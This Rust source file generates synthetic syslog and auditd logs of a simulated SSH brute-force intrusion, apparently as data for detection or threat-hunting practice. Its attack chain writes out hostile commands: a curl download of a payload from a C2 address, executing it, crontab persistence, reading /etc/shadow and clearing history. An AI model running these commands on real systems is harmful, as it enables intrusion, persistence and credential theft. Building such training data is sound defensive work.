//! Linux syslog (sshd, sudo, su, cron) and auditd records.
//!
//! The story: an SSH brute force on web-lx-01 from 91.240.118.172 that ends with a password
//! logon as `deploy`, then sudo to root, a download to /tmp, a cron job for persistence and a
//! read of /etc/shadow — in syslog and, command by command, in auditd EXECVE records.

use chrono::{DateTime, Duration, Utc};
use rand::Rng;
use rand::rngs::StdRng;

use super::table::{Table, i, s, t};
use super::world::{self, LINUX, TENANT, Timeline};

const SYSLOG_COLUMNS: [&str; 11] = [
    "TenantId",
    "TimeGenerated",
    "EventTime",
    "Computer",
    "HostName",
    "HostIP",
    "Facility",
    "SeverityLevel",
    "ProcessName",
    "ProcessID",
    "SyslogMessage",
];

struct Syslog<'a> {
    time: DateTime<Utc>,
    host: world::Machine,
    facility: &'a str,
    severity: &'a str,
    process: &'a str,
    pid: i64,
    message: String,
}

fn push(table: &mut Table, line: Syslog) {
    table.push(vec![
        ("TenantId", s(TENANT)),
        ("TimeGenerated", t(line.time)),
        ("EventTime", t(line.time)),
        ("Computer", s(line.host.name)),
        ("HostName", s(line.host.name)),
        ("HostIP", s(line.host.ip)),
        ("Facility", s(line.facility)),
        ("SeverityLevel", s(line.severity)),
        ("ProcessName", s(line.process)),
        ("ProcessID", i(line.pid)),
        ("SyslogMessage", s(line.message)),
    ]);
}

/// Syslog rows.
pub fn syslog(rng: &mut StdRng, timeline: &Timeline, scale: f64) -> Table {
    let mut table = Table::new("linux_syslog", &SYSLOG_COLUMNS);
    background(&mut table, rng, timeline, scale);
    attack(&mut table, rng, timeline, scale);
    table.sort_by("TimeGenerated");
    table
}

fn background(table: &mut Table, rng: &mut StdRng, timeline: &Timeline, scale: f64) {
    let admins = [("dave.s", "10.10.1.23"), ("svc-backup", "10.10.2.10")];
    for _ in 0..(90.0 * scale) as usize {
        let host = *world::pick(rng, &LINUX);
        let (user, ip) = *world::pick(rng, &admins);
        let time = timeline.random(rng, 0.85);
        let pid = rng.random_range(2000..40000);
        let port = rng.random_range(40000..65000);
        let lines = [
            (
                "auth",
                "info",
                "sshd",
                format!(
                    "Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{}",
                    world::hex(rng, 43)
                ),
            ),
            (
                "authpriv",
                "info",
                "sshd",
                format!(
                    "pam_unix(sshd:session): session opened for user {user}(uid=1001) by (uid=0)"
                ),
            ),
            (
                "authpriv",
                "notice",
                "sudo",
                format!(
                    "{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"
                ),
            ),
            (
                "authpriv",
                "info",
                "sudo",
                "pam_unix(sudo:session): session opened for user root(uid=0) by (uid=1001)"
                    .to_string(),
            ),
            (
                "authpriv",
                "info",
                "sudo",
                "pam_unix(sudo:session): session closed for user root".to_string(),
            ),
            (
                "authpriv",
                "info",
                "sshd",
                format!("pam_unix(sshd:session): session closed for user {user}"),
            ),
        ];
        for (n, (facility, severity, process, message)) in lines.into_iter().enumerate() {
            let time = time + Duration::seconds(n as i64 * 20) + world::jitter(rng, 5);
            push(
                table,
                Syslog {
                    time,
                    host,
                    facility,
                    severity,
                    process,
                    pid: pid + n as i64 % 2,
                    message,
                },
            );
        }
    }
    for _ in 0..(150.0 * scale) as usize {
        let host = *world::pick(rng, &LINUX);
        let time = timeline.random(rng, 0.0);
        let pid = rng.random_range(2000..40000);
        let (process, facility, message) = *world::pick(
            rng,
            &[
                (
                    "CRON",
                    "cron",
                    "(root) CMD (/usr/local/bin/logrotate-all >/dev/null 2>&1)",
                ),
                (
                    "CRON",
                    "authpriv",
                    "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                ),
                (
                    "systemd",
                    "daemon",
                    "Started Daily apt download activities.",
                ),
                ("nginx", "daemon", "worker process 1823 exited with code 0"),
                (
                    "kernel",
                    "kern",
                    "[UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.50 DST=10.10.3.11 PROTO=TCP DPT=23",
                ),
            ],
        );
        push(
            table,
            Syslog {
                time,
                host,
                facility,
                severity: "info",
                process,
                pid,
                message: message.to_string(),
            },
        );
    }
}

fn attack(table: &mut Table, rng: &mut StdRng, timeline: &Timeline, scale: f64) {
    let host = LINUX[0];
    let ip = world::SSH_ATTACKER_IP;
    let guesses = [
        "oracle", "postgres", "test", "ubuntu", "admin", "git", "deploy",
    ];
    let attempts = (140.0 * scale.max(0.25)) as i64;
    for n in 0..attempts {
        let user = guesses[rng.random_range(0..guesses.len())];
        let time = timeline.ssh_attack + Duration::seconds(n * 3) + world::jitter(rng, 2);
        let port = rng.random_range(30000..65000);
        let message = if user == "deploy" {
            format!("Failed password for deploy from {ip} port {port} ssh2")
        } else {
            format!("Failed password for invalid user {user} from {ip} port {port} ssh2")
        };
        let pid = rng.random_range(2000..40000);
        push(
            table,
            Syslog {
                time,
                host,
                facility: "auth",
                severity: "info",
                process: "sshd",
                pid,
                message,
            },
        );
    }
    let breach = timeline.ssh_attack + Duration::seconds(attempts * 3 + 10);
    let pid = 31337;
    let steps = [
        (
            0,
            "auth",
            "sshd",
            format!("Accepted password for deploy from {ip} port 52001 ssh2"),
        ),
        (
            1,
            "authpriv",
            "sshd",
            "pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)"
                .to_string(),
        ),
        (
            40,
            "authpriv",
            "sudo",
            "deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash".to_string(),
        ),
        (
            41,
            "authpriv",
            "sudo",
            "pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1002)"
                .to_string(),
        ),
        (
            300,
            "authpriv",
            "su",
            "(to www-data) root on pts/1".to_string(),
        ),
        (
            301,
            "authpriv",
            "su",
            "pam_unix(su:session): session opened for user www-data(uid=33) by deploy(uid=0)"
                .to_string(),
        ),
        (
            900,
            "authpriv",
            "sshd",
            "pam_unix(sshd:session): session closed for user deploy".to_string(),
        ),
    ];
    for (offset, facility, process, message) in steps {
        let time = breach + Duration::seconds(offset);
        push(
            table,
            Syslog {
                time,
                host,
                facility,
                severity: "info",
                process,
                pid,
                message,
            },
        );
    }
}

/// One auditd event: its records share a timestamp and serial.
struct AuditEvent {
    time: DateTime<Utc>,
    serial: u64,
    host: &'static str,
    records: Vec<String>,
}

/// auditd EXECVE events: raw `audit.log` lines and a table with one row per record.
pub fn auditd(rng: &mut StdRng, timeline: &Timeline, scale: f64) -> (Table, String) {
    let mut events = Vec::new();
    let mut serial = 4000;
    let benign: [&[&str]; 5] = [
        &["/usr/bin/systemctl", "status", "nginx"],
        &["/usr/bin/tail", "-n", "100", "/var/log/nginx/access.log"],
        &["/usr/bin/df", "-h"],
        &["/usr/bin/ps", "aux"],
        &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
    ];
    for _ in 0..(60.0 * scale) as usize {
        let host = world::pick(rng, &LINUX).name;
        let argv = *world::pick(rng, &benign);
        let time = timeline.random(rng, 0.7);
        serial += 1 + rng.random_range(0..20);
        events.push(exec_event(rng, time, serial, host, argv, (1001, 1001, 3)));
    }
    let attack_start =
        timeline.ssh_attack + Duration::seconds((140.0 * scale.max(0.25)) as i64 * 3 + 60);
    let chain: [&[&str]; 6] = [
        &[
            "/usr/bin/curl",
            "-s",
            "-o",
            "/tmp/.x",
            &format!("http://{}/x86_64", world::C2_IP),
        ],
        &["/usr/bin/chmod", "+x", "/tmp/.x"],
        &["/tmp/.x", "-c", world::C2_IP],
        &["/usr/bin/crontab", "/tmp/.c"],
        &["/usr/bin/cat", "/etc/shadow"],
        &["/usr/bin/history", "-c"],
    ];
    for (n, argv) in chain.iter().enumerate() {
        let time = attack_start + Duration::seconds(n as i64 * 45);
        serial += 1;
        events.push(exec_event(
            rng,
            time,
            serial,
            LINUX[0].name,
            argv,
            (1002, 0, 7),
        ));
    }
    events.sort_by_key(|e| e.time);
    let mut table = Table::new(
        "linux_auditd",
        &[
            "TimeGenerated",
            "Computer",
            "SequenceNumber",
            "RecordType",
            "RawData",
        ],
    );
    let mut raw = String::new();
    for event in &events {
        for record in &event.records {
            let record_type = record
                .split_whitespace()
                .next()
                .unwrap_or_default()
                .trim_start_matches("type=");
            table.push(vec![
                ("TimeGenerated", t(event.time)),
                ("Computer", s(event.host)),
                ("SequenceNumber", i(event.serial as i64)),
                ("RecordType", s(record_type)),
                ("RawData", s(record.clone())),
            ]);
            raw.push_str(record);
            raw.push('\n');
        }
    }
    (table, raw)
}

fn exec_event(
    rng: &mut StdRng,
    time: DateTime<Utc>,
    serial: u64,
    host: &'static str,
    argv: &[&str],
    (auid, uid, session): (u32, u32, u32),
) -> AuditEvent {
    let stamp = format!(
        "{}.{:03}:{serial}",
        time.timestamp(),
        time.timestamp_subsec_millis()
    );
    let pid = rng.random_range(2000..60000);
    let ppid = rng.random_range(1000..2000);
    let exe = argv[0];
    let comm = exe.rsplit('/').next().unwrap_or(exe);
    let args: Vec<String> = argv
        .iter()
        .enumerate()
        .map(|(n, a)| format!("a{n}=\"{a}\""))
        .collect();
    let records = vec![
        format!(
            "type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2 a1=55d0c3 a2=55d0c4 a3=0 items=2 ppid={ppid} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts1 ses={session} comm=\"{comm}\" exe=\"{exe}\" key=\"execve\""
        ),
        format!(
            "type=EXECVE msg=audit({stamp}): argc={} {}",
            argv.len(),
            args.join(" ")
        ),
        format!(
            "type=CWD msg=audit({stamp}): cwd=\"{}\"",
            if auid == 1002 {
                "/home/deploy"
            } else {
                "/home/dave.s"
            }
        ),
        format!(
            "type=PATH msg=audit({stamp}): item=0 name=\"{exe}\" inode={} dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
            rng.random_range(100000..999999)
        ),
        format!(
            "type=PROCTITLE msg=audit({stamp}): proctitle={}",
            hex_title(argv)
        ),
    ];
    AuditEvent {
        time,
        serial,
        host,
        records,
    }
}

/// auditd writes the process title as hex with NUL between arguments.
fn hex_title(argv: &[&str]) -> String {
    argv.join("\0")
        .bytes()
        .map(|b| format!("{b:02X}"))
        .collect()
}
